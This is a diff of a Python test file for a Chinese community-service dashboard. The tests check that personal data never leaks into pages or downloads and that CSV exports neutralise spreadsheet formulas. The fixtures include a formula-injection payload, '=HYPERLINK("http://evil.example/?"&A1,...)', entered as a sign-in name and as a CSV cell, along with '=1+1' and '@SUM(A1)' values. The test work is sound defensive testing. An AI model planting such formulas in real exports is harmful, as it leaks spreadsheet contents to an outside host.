@@ -15,6 +15,8 @@ through the real loader. Then none of those strings may be found:
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 import subprocess
@@ -41,24 +43,41 @@ PERIOD = {"period": "自定义", "from": "2026-03-01", "to": "2026-03-14"}
 NAMES = ["欧阳秀英", "司马建国", "诸葛丽娜", "上官云飞", "慕容雪梅", "皇甫志强"]
 PHONES = ["13812345678", "139-0000-1111", "+86 150 2222 3333", "0535-5651234", "18655554444", "17766668888"]
 IDS = ["370684199001011234", "11010119900307123X", "370602198512125678", "370684200512310018"]
+# The written forms of issue 12, typed into the free text of one appeal (B4).
+FORMS = ["0535 1234567", "(0535)1234567", "05351234567", "0535－1234567", "138.0013.8000", "138/0013/8000",
+         "138—0013—8000", "１３８００１３８０００", "1380 0138 000", "tel13700137000", "370684 19900101 123X",
+         "370684-19900101-123X", "３７０６８４１９９００１０１１２３Ｘ"]
+# Phones typed into other text columns: 诉求类别, 社区, 问题类别, 测评项目, 场景名称, 组织单位.
+ELSEWHERE = ["13922223333", "0535-6661234", "15866667777", "135-3333-4444", "188 9999 0000", "13611112222"]
 # A phone written with separators must not be found as its bare digits either.
-SECRETS = NAMES + PHONES + IDS + ["15022223333", "13900001111", "05355651234"]
+SECRETS = (NAMES + PHONES + IDS + FORMS + ELSEWHERE
+           + ["15022223333", "13900001111", "05355651234", "05351234567", "13800138000", "13700137000",
+              "37068419900101123X", "05356661234", "13533334444", "18899990000"])
 
 APPEALS_HEADER = ("工单编号,来源渠道,诉求类别,受理时间,街道,小区编码,首次响应时间,办结时间,反馈时间,结案时间,群众评价,"
-                  "来电人,联系电话,诉求内容,身份证号,家庭住址")
+                  "来电人,联系电话,诉求内容,身份证号,家庭住址,社区")
+# 社区 of each row: a phone, a formula and the caller's own name, another phone.
+COMMUNITIES = ["东城社区 13922223333", "钟楼社区", "@SUM(A1)诸葛丽娜所在社区", "东城社区", "0535-6661234", ""]
+# Stored before the loader refused control characters (the db fixture writes it in): it once broke
+# the street's PDF.
+STORED_CONTROL = "东城\x0b社区"
+# What a visitor types as an account name, and what the open appeal B3 carries (category, 社区):
+# every CSV download must hold them as text, never as a formula.
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 APPEALS_ROWS = [
     # In their own columns, and the caller's name, phone and ID inside the text.
     "B1,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,2026-03-02 10:00,2026-03-03 09:00,2026-03-04 09:00,,满意,"
     "欧阳秀英,13812345678,欧阳秀英反映楼道灯不亮，回电13812345678，身份证370684199001011234,370684199001011234,"
     "海景苑3号楼欧阳秀英家",
-    "B2,城市通,物业管理,2026-03-03 12:00,蓬莱阁街道,C2,2026-03-03 13:00,,,,,"
+    "B2,城市通,物业管理13922223333,2026-03-03 12:00,蓬莱阁街道,C2,2026-03-03 13:00,,,,,"
     "司马建国,139-0000-1111,业主司马建国(身份证11010119900307123X)称电梯故障，联系139-0000-1111或0535-5651234,"
     "11010119900307123X,宝龙国际司马建国",
     # Still open after 48 h: it is on the overdue list and in its download.
-    "B3,网格员巡访,市政设施,2026-03-04 10:00,紫荆山街道,C4,,,,,,诸葛丽娜,+86 150 2222 3333,"
+    "B3,网格员巡访,=1+1,2026-03-04 10:00,紫荆山街道,C4,,,,,,诸葛丽娜,+86 150 2222 3333,"
     "诸葛丽娜：路灯坏了 电话+86 150 2222 3333 身份证号370602198512125678,370602198512125678,晒甲河诸葛丽娜",
     "B4,民意日记,噪音扰民,2026-03-05 20:00,登州街道,C1,2026-03-05 21:00,2026-03-06 08:00,,,不满意,"
-    "上官云飞,18655554444,夜间噪音，请联系上官云飞18655554444,370684200512310018,",
+    "上官云飞,18655554444,夜间噪音，请联系上官云飞18655554444；" + "；".join(FORMS) + ",370684200512310018,",
     # Rejected rows (an unknown channel; a time that cannot be read): their personal data is masked
     # in the rejects too.
     "B5,微信群,环境卫生,2026-03-04 10:00,登州街道,C1,,,,,,慕容雪梅,17766668888,"
@@ -66,12 +85,16 @@ APPEALS_ROWS = [
     "B6,12345热线,环境卫生,2026-13-45,登州街道,C1,,,,,,皇甫志强,18655554444,皇甫志强投诉 18655554444,,",
 ]
 COMPLAINTS = """投诉编号,小区编码,问题类别,投诉时间,处置层级,三方办,解决时间,投诉人,投诉人电话,身份证号
-Q1,C1,垃圾清运,2026-03-02 09:00,小区,是,2026-03-04 09:00,欧阳秀英,13812345678,370684199001011234
+Q1,C1,垃圾清运 15866667777,2026-03-02 09:00,小区,是,2026-03-04 09:00,欧阳秀英,13812345678,370684199001011234
 Q2,C2,电梯维保,2026-03-03 10:00,社区,否,,司马建国,139-0000-1111,11010119900307123X
 Q3,C9,设施维修,2026-03-05 08:00,小区,否,,慕容雪梅,17766668888,370602198512125678
 """
+SCENES = """活动编号,活动日期,场景名称,场景类型,小区编码,参与人次,组织单位
+S1,2026-03-03,邻里议事会 188 9999 0000,邻里,C1,20,东城社区党委 13611112222
+S2,2026-03-04,健康讲座,健康,C2,=HYPERLINK("http://evil.example/?"&A1;"点此查看"),
+"""
 SURVEYS = """问卷编号,测评日期,小区编码,测评项目,评分,受访人,受访人电话
-T1,2026-03-02,C1,物业服务,5,上官云飞,18655554444
+T1,2026-03-02,C1,物业服务 135-3333-4444,5,上官云飞,18655554444
 T2,2026-03-04,C2,环境卫生,2,诸葛丽娜,15022223333
 """
 
@@ -80,7 +103,10 @@ T2,2026-03-04,C2,环境卫生,2,诸葛丽娜,15022223333
 def extracts(tmp_path_factory) -> dict[str, Path]:
     folder = tmp_path_factory.mktemp("pii-files")
     files = {
-        "appeals": (folder / "诉求工单_gbk.csv", ("\r\n".join([APPEALS_HEADER, *APPEALS_ROWS]) + "\r\n").encode("gb18030")),
+        "appeals": (folder / "诉求工单_gbk.csv", ("\r\n".join(
+            [APPEALS_HEADER, *[f"{row},{community}" for row, community in zip(APPEALS_ROWS, COMMUNITIES)]])
+            + "\r\n").encode("gb18030")),
+        "scenes": (folder / "服务场景.csv", SCENES.encode("utf-8")),
         "complaints": (folder / "物业投诉_utf8.csv", COMPLAINTS.encode("utf-8")),
         "surveys": (folder / "满意度测评_bom.csv", ("\ufeff" + SURVEYS).encode("utf-8")),
     }
@@ -89,7 +115,7 @@ def extracts(tmp_path_factory) -> dict[str, Path]:
     assert "欧阳秀英".encode("gb18030") in files["appeals"][1]  # really GBK on disk
     written = "".join(data.decode("gb18030" if kind == "appeals" else "utf-8-sig")
                       for kind, (_, data) in files.items())
-    assert [s for s in NAMES + PHONES + IDS if s not in written] == []
+    assert [s for s in NAMES + PHONES + IDS + FORMS + ELSEWHERE if s not in written] == []
     return {kind: path for kind, (path, _) in files.items()}
 
 
@@ -98,7 +124,7 @@ def db(extracts, tmp_path_factory) -> Path:
     path = tmp_path_factory.mktemp("pii-db") / "pii.duckdb"
     order = [("compounds", FIXTURES / "compounds.csv"), ("appeals", extracts["appeals"]),
              ("complaints", extracts["complaints"]), ("surveys", extracts["surveys"]),
-             ("scenes", FIXTURES / "scenes.xlsx")]
+             ("scenes", FIXTURES / "scenes.xlsx"), ("scenes", extracts["scenes"])]
     for kind, file in order:
         (report,) = load_files(path, kind, [file])
         assert report.refused is None, report.refused
@@ -106,6 +132,8 @@ def db(extracts, tmp_path_factory) -> Path:
             assert report.inserted == 4 and report.rejected == 2, report.summary_zh()
         if kind == "complaints":
             assert report.rejected == 1, report.summary_zh()
+    with duckdb.connect(str(path)) as con:
+        con.execute("UPDATE appeals SET community = ? WHERE appeal_id = 'B4'", [STORED_CONTROL])
     return path
 
 
@@ -214,6 +242,10 @@ def downloads(monkeypatch) -> list[tuple[str, bytes]]:
     return offered
 
 
+def texts_of(elements) -> list[str]:
+    return [str(e.value) for e in elements]
+
+
 def signed_in(name: str) -> AppTest:
     at = AppTest.from_file(APP, default_timeout=120)
     at.query_params.update(PERIOD)
@@ -238,6 +270,12 @@ PAGES = ["overview", "appeals", "property", "compounds", "satisfaction", "scenes
 @pytest.mark.parametrize(("user", "extra_pages"), [("analyst", ["data_desk"]), ("admin", ["data_desk", "admin"]),
                                                    ("dengzhou", [])])
 def test_no_page_and_no_download_shows_any_of_it(user, extra_pages, downloads, tmp_path):
+    if user == "admin":  # a visitor's attempt with a formula for a name, before the admin looks at the log
+        visitor = AppTest.from_file(APP, default_timeout=120).run()
+        visitor.text_input(key="sign_in_name").input(HOSTILE_NAME)
+        visitor.text_input(key="sign_in_password").input("13812345678")
+        visitor.button(key="sign_in_submit").click().run()
+        assert texts_of(visitor.error) == ["账号或密码错误。"]
     at = signed_in(user)
     seen: dict[str, list[str]] = {}
     for page in PAGES + extra_pages:
@@ -266,6 +304,16 @@ def test_no_page_and_no_download_shows_any_of_it(user, extra_pages, downloads, t
         text = pdf_text(data, tmp_path, f"{index}.pdf") if name.endswith(".pdf") else data.decode("utf-8-sig")
         assert text.strip(), name
         assert not leaks(text), (name, leaks(text))
+        if name.endswith(".csv"):
+            assert data.startswith("\ufeff".encode()), name
+            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+            assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], name
+    hostile = {"超期未办结工单": ["'=1+1", "'@SUM(A1)[姓名已隐去]所在社区"], "审计日志": ["'" + HOSTILE_NAME]}
+    for prefix, cells in hostile.items():
+        for name, data in downloads:
+            if name.startswith(prefix) and user != "dengzhou":
+                read = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+                assert all(cell in read for cell in cells), (name, cells)
     overdue = [data.decode("utf-8-sig") for name, data in downloads if name.startswith("超期未办结工单")]
     if user != "dengzhou":
         assert any("B3" in text for text in overdue)  # ...and so does its download, without the caller
@@ -299,11 +347,31 @@ def test_personal_data_in_a_wrong_column_stays_out_of_the_reasons(tmp_path):
         "工单编号,来源渠道,诉求类别,受理时间,街道,小区编码,群众评价,来电人,联系电话,诉求内容\n"
         "X1,12345热线,环境卫生,13812345678,登州街道,C1,,欧阳秀英,13812345678,内容\n"
         "X2,欧阳秀英,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n"
-        "X3,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,370684199001011234,欧阳秀英,13812345678,内容\n",
+        "X3,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,370684199001011234,欧阳秀英,13812345678,内容\n"
+        # A key cannot be masked (two rows would become one): the row is rejected, its values masked.
+        "138 1234 5678,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n"
+        "X欧阳秀英,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n",
         encoding="utf-8")
     (report,) = load_files(db, "appeals", [shifted])
-    assert report.rejected == 3
+    assert report.rejected == 5
+    assert [r["rows"] for r in report.reasons if r["reason"].startswith("“工单编号”含有电话号码")] == [2]
     with read_only(db) as con:
         stored = json.dumps(con.execute("SELECT reason, raw_values FROM rejects").fetchall(), ensure_ascii=False)
         csv_text = rejects_csv(con, report.batch_id).decode("utf-8-sig")
     assert not leaks(stored + csv_text + json.dumps(report.reasons, ensure_ascii=False))
+
+
+# ---------------------------------------------------------------- no traceback, whatever the data
+
+def test_a_page_that_fails_shows_a_chinese_sentence_and_no_traceback(monkeypatch, caplog):
+    from dashboard import data
+
+    def broken(*args, **kwargs):
+        raise ValueError("a value no page expected")
+
+    monkeypatch.setattr(data, "overdue_appeals", broken)
+    at = signed_in("analyst")
+    at.switch_page("pages/appeals.py").run()
+    assert not at.exception
+    assert texts_of(at.error) == ["此页面暂时无法显示，已记录错误详情，请稍后重试或联系管理员。"]
+    assert "a value no page expected" in caplog.text  # the details are in the server's log
